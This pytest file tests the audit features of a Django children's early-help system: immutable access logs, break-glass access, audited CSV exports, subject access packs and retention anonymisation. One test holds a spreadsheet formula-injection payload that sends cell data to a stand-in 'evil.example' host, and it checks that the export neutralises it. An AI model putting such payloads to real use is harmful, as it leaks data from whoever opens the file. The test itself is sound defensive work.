import pytest
from django.urls import reverse

from earlyhelp.audit.models import AccessKind, AccessRecord
from earlyhelp.audit.services import access_record_create
from earlyhelp.people.models import Family, FamilyMember, MemberRole, Person


@pytest.fixture
def child(seeded):
    family = Family.objects.create(name="Audit family")
    person = Person.objects.create(first_name="Ruby", last_name="Audit")
    FamilyMember.objects.create(family=family, person=person, role=MemberRole.CHILD)
    return person


def test_access_records_cannot_be_changed_or_deleted(child, demo_user):
    record = access_record_create(user=demo_user("practitioner"), person=child, what="Person page")
    record.what = "something else"
    with pytest.raises(PermissionError):
        record.save()
    with pytest.raises(PermissionError):
        record.delete()
    with pytest.raises(PermissionError):
        AccessRecord.objects.filter(pk=record.pk).update(what="x")
    with pytest.raises(PermissionError):
        AccessRecord.objects.all().delete()
    assert AccessRecord.objects.get(pk=record.pk).what == "Person page"


def test_a_view_of_a_person_is_filed_under_their_family_too(child, demo_user):
    record = access_record_create(user=demo_user("practitioner"), person=child, what="Person page")
    assert record.family == child.memberships.get().family


def test_the_auditor_sees_who_looked_at_a_child_and_the_export_is_itself_audited(client, child, demo_user):
    family = child.memberships.get().family
    access_record_create(user=demo_user("practitioner"), person=child, what="Person page")
    access_record_create(user=demo_user("manager"), family=family, what="Family page")
    access_record_create(user=demo_user("adviser"), kind=AccessKind.BREAK_GLASS, family=family,
                         what="Family page", reason="Covering for a colleague on leave")
    client.force_login(demo_user("admin"))
    page = client.get(reverse("audit-person", args=[child.pk])).content.decode()
    assert "Tom Fletcher" in page and "Helen Barker" in page
    assert "Covering for a colleague on leave" in page
    response = client.get(reverse("audit-person-csv", args=[child.pk]))
    rows = response.content.decode().splitlines()
    assert rows[0].startswith("When,Who,Role")
    assert len(rows) == 1 + 5  # the three looks, the administrator's look at the history, and this export
    assert "Sue Patel,Administrator" in rows[1] and "Exported" in rows[1]
    assert AccessRecord.objects.filter(kind=AccessKind.EXPORT, person=child, user__username="admin").count() == 1


def test_a_break_glass_reason_that_looks_like_a_formula_is_neutralised_in_the_csv(client, child, demo_user):
    import csv
    import io

    family = child.memberships.get().family
    reason = '=HYPERLINK("http://evil.example/?d="&A1,"Open the record")'
    client.force_login(demo_user("adviser"))
    client.post(reverse("break-glass", args=[family.pk]), {"reason": reason})
    assert AccessRecord.objects.get(kind=AccessKind.BREAK_GLASS, family=family).reason == reason  # stored as typed
    client.force_login(demo_user("admin"))
    rows = list(csv.reader(io.StringIO(client.get(reverse("audit-person-csv", args=[child.pk])).content.decode())))
    reasons = [row[-1] for row in rows[1:] if row[-1]]
    assert reasons == ["'" + reason]

def test_only_administrators_read_the_audit_trail(client, child, demo_user):
    for username in ("manager", "practitioner", "analyst"):
        client.force_login(demo_user(username))
        assert client.get(reverse("audit-person", args=[child.pk])).status_code == 403
        assert client.get(reverse("audit-person-csv", args=[child.pk])).status_code == 403


def test_changes_to_a_child_keep_before_and_after(child):
    from auditlog.models import LogEntry

    child.last_name = "Audited"
    child.save()
    entry = LogEntry.objects.get_for_object(child).order_by("-timestamp").first()
    assert entry.changes_dict["last_name"] == ["Audit", "Audited"]


def test_break_glass_needs_a_reason_grants_time_limited_access_and_tells_the_managers(client, child, demo_user):
    from datetime import timedelta

    from django.utils import timezone

    from earlyhelp.audit.models import BreakGlassAccess
    from earlyhelp.frontdoor.models import Notification
    from earlyhelp.people.access import user_can_see_family

    family = child.memberships.get().family
    adviser = demo_user("adviser")
    assert not user_can_see_family(adviser, family.pk)
    client.force_login(adviser)
    page = client.post(reverse("break-glass", args=[family.pk]), {"reason": "need"}).content.decode()
    assert "Explain in a sentence why" in page
    assert not BreakGlassAccess.objects.exists()

    client.post(reverse("break-glass", args=[family.pk]), {"reason": "Covering for Tom while he is on leave"})
    assert user_can_see_family(adviser, family.pk)
    record = AccessRecord.objects.get(kind=AccessKind.BREAK_GLASS, family=family)
    assert record.reason == "Covering for Tom while he is on leave"
    told = set(Notification.objects.values_list("recipient__username", flat=True))
    assert told and all(name != "adviser" for name in told)

    BreakGlassAccess.objects.update(expires_at=timezone.now() - timedelta(seconds=1))
    assert not user_can_see_family(adviser, family.pk)


def test_analysts_cannot_break_glass(client, child, demo_user):
    client.force_login(demo_user("analyst"))
    family = child.memberships.get().family
    assert client.post(reverse("break-glass", args=[family.pk]), {"reason": "I am curious about it"}).status_code == 403


def test_subject_access_pack_holds_everything_about_the_person_and_is_audited(child, demo_user, tmp_path):
    import json

    from django.core.management import call_command

    from earlyhelp.accounts.models import Agency
    from earlyhelp.people.models import Involvement

    Involvement.objects.create(person=child, agency=Agency.objects.first(), practitioner_name="Nurse Jones",
                               role_description="School nurse")
    call_command("subject_access", child.pk, "--requested-by", "admin", "--out", str(tmp_path))
    pack = json.loads(next(tmp_path.glob("*.json")).read_text())
    titles = [section["title"] for section in pack["sections"]]
    assert "Personal details" in titles
    assert any("Household: Audit family" == title for title in titles)
    text = json.dumps(pack)
    assert "Nurse Jones" in text and "Ruby" in text
    html = next(tmp_path.glob("*.html")).read_text()
    assert "Information we hold about Ruby Audit" in html
    assert AccessRecord.objects.filter(person=child, kind=AccessKind.EXPORT, user__username="admin").exists()


def test_retention_lists_and_anonymises_only_families_closed_long_enough_ago(child, demo_user):
    from datetime import date

    from django.core.management import call_command

    from earlyhelp.audit.models import RetentionAction
    from earlyhelp.audit.retention import families_past_retention
    from earlyhelp.episodes.models import Episode, EpisodeState
    from earlyhelp.people.models import Family, Person

    old_family = child.memberships.get().family
    Person.objects.filter(pk=child.pk).update(nhs_number="9990000018", date_of_birth=date(2012, 5, 17),
                                              postcode="LS1 4AP")
    Episode.objects.create(reference="EP-OLD", family=old_family, state=EpisodeState.CLOSED,
                           opened_on=date(2015, 1, 5), closed_on=date(2016, 3, 1))
    recent = Family.objects.create(name="Recent family")
    Episode.objects.create(reference="EP-NEW", family=recent, state=EpisodeState.CLOSED,
                           opened_on=date(2025, 1, 5), closed_on=date(2025, 6, 1))
    assert [family.pk for family in families_past_retention()] == [old_family.pk]

    call_command("retention", "--anonymise")  # without --confirm nothing changes
    child.refresh_from_db()
    assert child.first_name == "Ruby"

    call_command("retention", "--anonymise", "--confirm", "--by", "admin")
    child.refresh_from_db()
    assert (child.first_name, child.last_name, child.nhs_number) == ("Anonymised", "Anonymised", None)
    assert child.date_of_birth == date(2012, 1, 1) and child.postcode == "LS1"
    action = RetentionAction.objects.get()
    assert action.family_reference == old_family.pk and action.done_by == "admin"
    assert list(families_past_retention()) == []
